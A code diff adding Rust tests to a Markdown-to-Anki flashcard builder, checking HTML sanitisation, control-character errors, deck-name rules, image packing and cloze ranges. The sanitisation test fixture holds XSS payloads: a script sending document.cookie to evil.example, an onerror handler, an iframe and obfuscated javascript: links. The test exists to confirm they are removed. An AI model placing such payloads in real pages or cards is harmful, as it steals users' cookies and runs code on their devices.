@@ -636,3 +636,230 @@ fn switching_kinds_adds_the_reverse_card_and_refuses_a_new_note_type() {
         "the cloze switch changed nothing"
     );
 }
+
+/// Issue 11, finding 6: raw HTML that would run on the learner's device is removed from the card
+/// (in real Anki, `card.answer()` held `<script>`, `onerror=`, `javascript:`, `<iframe>`, a
+/// `<style>` that hid the card, and `<b onmouseover>` in the question), with a warning at each.
+#[test]
+fn r11_cards_hold_no_script_handler_frame_or_style() {
+    let project = Project::new();
+    project.write(
+        "source/html.md",
+        r#"---
+id: html
+title: HTML
+deck: Test::HTML
+---
+
+### What is a <b onmouseover="steal()">high-water mark</b>? {#hwm}
+
+The largest timestamp loaded. <script>fetch("https://evil.example/" + document.cookie)</script>
+
+<img src="x.png" onerror="alert(1)"> <iframe src="https://evil.example"></iframe>
+
+<style>.card { display: none }</style>
+
+[details](javascript:alert(1)) and <a href="jAvA&#x09;script:alert(2)">more</a>,
+<b>bold</b>, a [link](https://example.com) and `code` stay.
+"#,
+    );
+    let output = build(&project);
+    let stderr = stderr_of(&output, &project);
+    for place in [
+        "html.md:7:15",
+        "html.md:9:31",
+        "html.md:11:1",
+        "html.md:11:38",
+        "html.md:13:1",
+        "html.md:15:1",
+        "html.md:15:36",
+    ] {
+        assert!(stderr.contains(place), "no warning at {place}: {stderr}");
+    }
+    assert!(stderr.contains("warning[S021]"), "{stderr}");
+    let anki = Anki::new();
+    anki.import(&project, "html.apkg");
+    let dump = anki.dump();
+    let fields = &note(&dump, "hwm")["fields"];
+    let question = fields["Question"].as_str().expect("question");
+    let answer = fields["Answer"].as_str().expect("answer");
+    for field in [question, answer] {
+        for gone in [
+            "<script",
+            "onmouseover",
+            "onerror",
+            "<iframe",
+            "<style",
+            "display: none",
+            "javascript",
+            "document.cookie",
+        ] {
+            assert!(
+                !field
+                    .to_ascii_lowercase()
+                    .contains(&gone.to_ascii_lowercase()),
+                "`{gone}` reached Anki: {field}"
+            );
+        }
+    }
+    assert!(question.contains("<b>high-water mark</b>"), "{question}");
+    for kept in [
+        "<b>bold</b>",
+        "href=\"https://example.com\"",
+        "<code>code</code>",
+    ] {
+        assert!(answer.contains(kept), "`{kept}` was lost: {answer}");
+    }
+}
+
+/// The documented opt-out: `sanitize-html = false` keeps raw HTML, and warns about none of it.
+#[test]
+fn r11_raw_html_is_kept_when_the_author_opts_out() {
+    let project = Project::new();
+    project.write("cardsmith.toml", "[apkg]\nsanitize-html = false\n");
+    project.write(
+        "source/html.md",
+        "---\nid: html\ntitle: HTML\ndeck: Test\n---\n\n### Q? {#q}\n\nA <span onclick=\"go()\">widget</span>.\n",
+    );
+    let stderr = stderr_of(&build(&project), &project);
+    assert!(!stderr.contains("S021"), "{stderr}");
+    let anki = Anki::new();
+    anki.import(&project, "html.apkg");
+    let answer = note(&anki.dump(), "q")["fields"]["Answer"]
+        .as_str()
+        .expect("answer")
+        .to_owned();
+    assert!(answer.contains("onclick=\"go()\""), "{answer}");
+}
+
+/// Issue 11, finding 2: one `\x1f` (Anki's field separator) made Anki refuse the whole package;
+/// now every control character is an error at its place, raw or escaped, and nothing is built.
+#[test]
+fn r11_control_characters_are_errors_at_their_place_and_build_nothing() {
+    let project = Project::new();
+    project.write(
+        "source/good.md",
+        "---\nid: good\ntitle: Good\ndeck: Test\n---\n\n### Q? {#q}\n\nA.\n",
+    );
+    project.write(
+        "source/bad.md",
+        "---\nid: bad\ntitle: \"Bad\\x1f\"\ndeck: Test\ntags: [\"a\\u0000b\"]\n---\n\n## Topic\u{1f}\n\n### Question\u{1f}? {#bad-q}\n\nAnswer\u{0} with &#x1F;.\n\n```card\nmust:\n  - \"point\\x1f\"\navoid:\n  - flag: \"flag\\x1e\"\n    match: x\n```\n",
+    );
+    let stderr = project.run(&["build"], 1);
+    for place in [
+        "bad.md:3:12",
+        "bad.md:5:10",
+        "bad.md:8:9",
+        "bad.md:10:13",
+        "bad.md:12:7",
+        "bad.md:12:14",
+        "bad.md:16:11",
+        "bad.md:18:16",
+    ] {
+        assert!(stderr.contains(place), "nothing at {place}: {stderr}");
+    }
+    assert!(stderr.contains("error[S019]"), "{stderr}");
+    assert!(project.out_files().is_empty(), "nothing built");
+}
+
+/// Anki renamed `Default` to `Default_` and `math` (beside `Math`) to `math_`, silently; both are
+/// errors naming Anki's rule. Deck names it keeps import as written.
+#[test]
+fn r11_deck_names_anki_would_rename_are_errors() {
+    let lesson = |id: &str, deck: &str| {
+        format!("---\nid: {id}\ntitle: T\ndeck: \"{deck}\"\n---\n\n### Q {id}? {{#q-{id}}}\n\nA.\n")
+    };
+    let project = Project::new();
+    project.write("source/a.md", &lesson("a", "Default"));
+    project.write("source/b.md", &lesson("b", "Math::Algebra"));
+    project.write("source/c.md", &lesson("c", "math::Geometry"));
+    project.write("source/d.md", &lesson("d", "Spaced ::Sub"));
+    project.write("source/e.md", &lesson("e", "Parent::::Child"));
+    let stderr = project.run(&["build"], 1);
+    assert!(
+        stderr.contains("a.md:4:7") && stderr.contains("is the name of Anki's built-in deck"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("c.md:4:7")
+            && stderr.contains("deck `math` differs from deck `Math` only in case"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("d.md:4:7") && stderr.contains("whitespace around its level"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("e.md:4:7") && stderr.contains("has an empty level"),
+        "{stderr}"
+    );
+
+    let project = Project::new();
+    project.write("source/a.md", &lesson("a", "Default::Child"));
+    project.write("source/b.md", &lesson("b", "Math::Algebra"));
+    project.write("source/c.md", &lesson("c", "Math::Geometry"));
+    build(&project);
+    let anki = Anki::new();
+    anki.import(&project, "all.apkg");
+    let decks = anki.dump()["decks"].clone();
+    assert_eq!(
+        decks,
+        serde_json::json!([
+            "Default",
+            "Default::Child",
+            "Math",
+            "Math::Algebra",
+            "Math::Geometry"
+        ]),
+        "Anki keeps every name as written"
+    );
+}
+
+/// Issue 11, finding 8: an image in a `###` question was neither checked nor packed.
+#[test]
+fn r11_an_image_in_a_question_is_checked_and_packed() {
+    let project = Project::new();
+    project.write(
+        "source/q.md",
+        "---\nid: q\ntitle: Q\ndeck: Test\n---\n\n### What is ![the shape](img/shape.png)? {#shape}\n\nA square.\n",
+    );
+    let stderr = project.run(&["check"], 1);
+    assert!(
+        stderr.contains("q.md:7:13") && stderr.contains("image `img/shape.png` not found"),
+        "{stderr}"
+    );
+    project.write_bytes("source/img/shape.png", PNG);
+    build(&project);
+    let anki = Anki::new();
+    anki.import(&project, "q.apkg");
+    let dump = anki.dump();
+    let media = dump["media"].as_array().expect("media");
+    assert_eq!(media.len(), 1, "{media:?}");
+    let name = media[0].as_str().expect("name");
+    // The whole SHA-256 names it: `shape-<64 hex digits>.png`.
+    assert_eq!(name.len(), "shape-".len() + 64 + ".png".len(), "{name}");
+    let question = note(&dump, "shape")["fields"]["Question"]
+        .as_str()
+        .expect("question");
+    assert!(question.contains(&format!("src=\"{name}\"")), "{question}");
+}
+
+/// Issue 11, finding 8: `{{c65536::y}}` (out of Anki's range) was silently ignored.
+#[test]
+fn r11_cloze_numbers_out_of_ankis_range_are_errors() {
+    let project = Project::new();
+    project.write(
+        "source/c.md",
+        "---\nid: c\ntitle: C\ndeck: Test\n---\n\n### Q? {#q}\n\nIt is {{c1::x}} and {{c65536::y}} and {{c0::z}}.\n\n```card\nkind: cloze\n```\n",
+    );
+    let stderr = project.run(&["check"], 1);
+    assert!(
+        stderr.contains("c.md:9:21")
+            && stderr.contains("cloze number 65536 is out of Anki's range"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("c.md:9:39") && stderr.contains("cloze number 0"),
+        "{stderr}"
+    );
+}
